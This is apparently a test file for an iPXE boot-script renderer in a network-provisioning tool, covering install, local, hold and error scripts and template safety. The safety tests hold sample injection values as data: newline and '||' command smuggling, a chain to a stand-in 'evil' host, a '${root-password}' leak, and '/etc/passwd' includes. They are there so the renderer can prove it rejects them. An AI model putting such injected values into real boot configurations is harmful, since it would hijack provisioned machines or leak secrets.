/**
 * The iPXE scripts a node receives, per mode and firmware, and the values that must never reach one.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type BootScriptInput,
  bootScriptUrl,
  firmwareOf,
  IpxeScriptError,
  normalizeMac,
  renderBootScript,
  renderErrorScript,
  unsafeReason,
  validateTemplate,
} from '../../../src/ipxe/script.ts';

const base = 'http://192.168.50.1:8080';
const profile = {
  kernel: 'debian-12/vmlinuz',
  initrd: ['debian-12/initrd.gz'],
  cmdline: 'console=ttyS0 auto=true url=http://192.168.50.1:8080/preseed?mac=52:54:00:aa:bb:01&p=1',
};
const efiNode = { name: 'node1', mac: '52-54-00-AA-BB-01', arch: 7 };
const biosNode = { name: 'node1', mac: '52:54:00:aa:bb:01', arch: 0 };

const lines = (s: string) => s.split('\n');
const input = (over: Partial<BootScriptInput>): BootScriptInput => ({
  node: efiNode,
  profile,
  mode: 'install',
  baseUrl: base,
  ...over,
});

function throwsNaming(fn: () => unknown, field: string, re?: RegExp) {
  assert.throws(fn, (err: unknown) => {
    assert.ok(err instanceof IpxeScriptError, String(err));
    assert.equal(err.field, field);
    assert.match(err.message, new RegExp(field.replace(/[.[\]]/g, '\\$&')));
    if (re) assert.match(err.message, re);
    return true;
  });
}

describe('iPXE install script', () => {
  it('loads kernel and initrd from the artifacts URL and boots, with initrd=NAME on the EFI cmdline', () => {
    const s = renderBootScript(input({}));
    const l = lines(s);
    assert.equal(l[0], '#!ipxe');
    assert.ok(
      l.includes(
        'kernel http://192.168.50.1:8080/artifacts/debian-12/vmlinuz ' +
          profile.cmdline +
          ' initrd=initrd.gz || goto retry',
      ),
      s,
    );
    assert.ok(
      l.includes(
        'initrd --name initrd.gz http://192.168.50.1:8080/artifacts/debian-12/initrd.gz || goto retry',
      ),
    );
    assert.ok(l.includes('boot || goto retry'));
    // On failure it asks for its script again.
    assert.ok(
      l.includes(
        'chain --replace --autofree http://192.168.50.1:8080/boot/ipxe?mac=52:54:00:aa:bb:01 || goto retry',
      ),
    );
  });

  it('names every initrd and keeps absolute URLs; BIOS gets no initrd= on the cmdline', () => {
    const two = { ...profile, initrd: ['a/initrd.gz', 'https://mirror.test/fw/firmware.cpio.gz?v=2'] };
    const efi = renderBootScript(input({ profile: two }));
    assert.match(efi, / initrd=initrd\.gz initrd=firmware\.cpio\.gz \|\| goto retry\n/);
    assert.match(
      efi,
      /\ninitrd --name firmware\.cpio\.gz https:\/\/mirror\.test\/fw\/firmware\.cpio\.gz\?v=2 /,
    );
    const bios = renderBootScript(input({ node: biosNode, profile: two }));
    assert.doesNotMatch(bios, /initrd=/);
  });

  it('does not add initrd= twice when the profile already has it', () => {
    const s = renderBootScript(input({ profile: { ...profile, cmdline: 'quiet initrd=custom' } }));
    assert.match(s, /vmlinuz quiet initrd=custom \|\| goto retry/);
  });

  it('renders a profile template with the same context and vars', () => {
    const template =
      '#!ipxe\nkernel {{ kernel.url }} {{ cmdline }} hostname={{ node.name }} {{ vars.extra }}\nboot\n';
    const s = renderBootScript(
      input({ profile: { ...profile, template }, vars: { extra: 'ipv6.disable=1' } }),
    );
    assert.match(s, /hostname=node1 ipv6\.disable=1\n/);
  });

  it('needs a profile', () => {
    throwsNaming(() => renderBootScript(input({ profile: undefined })), 'profile');
  });
});

describe('iPXE local, discovery and hold scripts', () => {
  it('boots the local disk: sanboot under BIOS, the local-boot GRUB under UEFI, exit as the last resort', () => {
    const bios = renderBootScript(input({ node: biosNode, mode: 'local' }));
    assert.ok(lines(bios).includes('sanboot --no-describe --drive 0x80 || exit'));
    assert.doesNotMatch(bios, /kernel/);
    const efi = renderBootScript(input({ mode: 'local' }));
    assert.ok(
      lines(efi).includes('chain --autofree http://192.168.50.1:8080/artifacts/ipxe/grub-local.efi || exit'),
    );
    assert.doesNotMatch(efi, /sanboot/);
    const unknown = renderBootScript(input({ node: { ...efiNode, arch: 'mystery' }, mode: 'local' }));
    assert.match(unknown, /iseq \$\{platform\} efi && goto efi \|\| sanboot --no-describe --drive 0x80/);
    assert.match(unknown, /^:efi\nchain --autofree \S+grub-local\.efi \|\| exit$/m);
  });

  it('holds: prints, sleeps, and chains back to the same script URL in a retry loop', () => {
    const s = renderBootScript(input({ mode: 'hold', message: 'maintenance window' }));
    assert.deepEqual(lines(s).slice(0, 5), [
      '#!ipxe',
      ':retry',
      'echo Strata: node1 (52:54:00:aa:bb:01) is on hold; maintenance window',
      'sleep 30',
      'chain --replace --autofree http://192.168.50.1:8080/boot/ipxe?mac=52:54:00:aa:bb:01 || goto retry',
    ]);
  });

  it('discovery works without a profile and honours retrySeconds', () => {
    const s = renderBootScript({ node: efiNode, mode: 'discovery', baseUrl: base, retrySeconds: 5 });
    assert.match(
      s,
      /\nsleep 5\nchain --replace --autofree http:\/\/192\.168\.50\.1:8080\/boot\/ipxe\?mac=52:54:00:aa:bb:01 \|\| goto retry\n/,
    );
  });
});

describe('iPXE error script', () => {
  it('prints the message and retries, letting iPXE fill in its MAC when unknown', () => {
    const s = renderErrorScript({ message: 'no profile for this machine', baseUrl: base, retrySeconds: 15 });
    assert.deepEqual(lines(s), [
      '#!ipxe',
      ':retry',
      'echo Strata: no profile for this machine',
      'echo Strata: retrying in 15 seconds',
      'sleep 15',
      `chain --replace --autofree http://192.168.50.1:8080/boot/ipxe?mac=\${netX/mac} || goto retry`,
      '',
    ]);
    const known = renderErrorScript({ message: 'x', baseUrl: base, mac: '525400aabb01' });
    assert.match(known, /\?mac=52:54:00:aa:bb:01 \|\| goto retry/);
  });

  it('refuses an unsafe message', () => {
    throwsNaming(() => renderErrorScript({ message: 'bye\nreboot', baseUrl: base }), 'message');
  });
});

describe('iPXE template safety', () => {
  it('names a missing variable', () => {
    const template = '#!ipxe\necho {{ node.rack }} {{ vars.site }}\n';
    throwsNaming(
      () => renderBootScript(input({ profile: { ...profile, template } })),
      'node.rack',
      /undefined variable/,
    );
    const t2 = '#!ipxe\necho {{ vars.site }}\n';
    throwsNaming(() => renderBootScript(input({ profile: { ...profile, template: t2 } })), 'vars.site');
  });

  it('refuses values that would inject iPXE commands, naming the field', () => {
    throwsNaming(
      () => renderBootScript(input({ node: { ...efiNode, name: 'x\nshell' } })),
      'node.name',
      /newline/,
    );
    throwsNaming(
      () => renderBootScript(input({ profile: { ...profile, cmdline: 'quiet || shell' } })),
      'profile.cmdline',
      /\|\|/,
    );
    throwsNaming(
      () => renderBootScript(input({ profile: { ...profile, cmdline: 'quiet ; chain http://evil/x' } })),
      'profile.cmdline',
    );
    throwsNaming(() => renderBootScript(input({ vars: { pw: `\${root-password}` } })), 'vars.pw', /\$\{/);
    throwsNaming(
      () => renderBootScript(input({ vars: { deep: { list: ['ok', 'a\rb'] } } })),
      'vars.deep.list[1]',
    );
    throwsNaming(
      () => renderBootScript(input({ profile: { ...profile, kernel: 'a b/vmlinuz' } })),
      'profile.kernel',
      /whitespace/,
    );
    throwsNaming(() => renderBootScript(input({ node: { ...efiNode, mac: 'not-a-mac' } })), 'node.mac');
    throwsNaming(() => renderBootScript(input({ baseUrl: 'file:///etc' })), 'baseUrl');
  });

  it('checks template output too, and `| raw` does not bypass it', () => {
    const template = `#!ipxe\necho {{ "a" | append: "\${net0/ip}" | raw }}\n`;
    assert.throws(() => renderBootScript(input({ profile: { ...profile, template } })), /\$\{/);
  });

  it('gives templates no file system', () => {
    const template = '#!ipxe\n{% include "/etc/passwd" %}\n';
    assert.throws(() => renderBootScript(input({ profile: { ...profile, template } })), IpxeScriptError);
    const t2 = '#!ipxe\n{% render "../../package.json" %}\n';
    assert.throws(() => renderBootScript(input({ profile: { ...profile, template: t2 } })), IpxeScriptError);
  });

  it('requires #!ipxe and a parsable template', () => {
    assert.throws(
      () => renderBootScript(input({ profile: { ...profile, template: 'kernel x\n' } })),
      /#!ipxe/,
    );
    assert.throws(() => validateTemplate('#!ipxe\n{% if %}'), IpxeScriptError);
    validateTemplate('#!ipxe\nboot\n');
  });

  it('classifies strings', () => {
    assert.equal(unsafeReason('console=ttyS0,115200 url=http://h/p?a=1&b=2 x#y'), undefined);
    assert.ok(unsafeReason('a && b'));
    assert.ok(unsafeReason('a #comment'));
    assert.ok(unsafeReason('trailing|'));
  });
});

describe('iPXE helpers', () => {
  it('normalises MACs and firmware', () => {
    assert.equal(normalizeMac('52-54-00-AA-BB-01'), '52:54:00:aa:bb:01');
    assert.equal(normalizeMac('525400aabb01'), '52:54:00:aa:bb:01');
    assert.equal(normalizeMac('52:54:00-aa:bb:01'), undefined);
    assert.equal(firmwareOf(0), 'bios');
    assert.equal(firmwareOf(7), 'uefi');
    assert.equal(firmwareOf('x86_64-efi'), 'uefi');
    assert.equal(firmwareOf('pcbios'), 'bios');
    assert.equal(firmwareOf('?'), 'unknown');
    assert.equal(bootScriptUrl('http://h/'), `http://h/boot/ipxe?mac=\${netX/mac}`);
  });
});
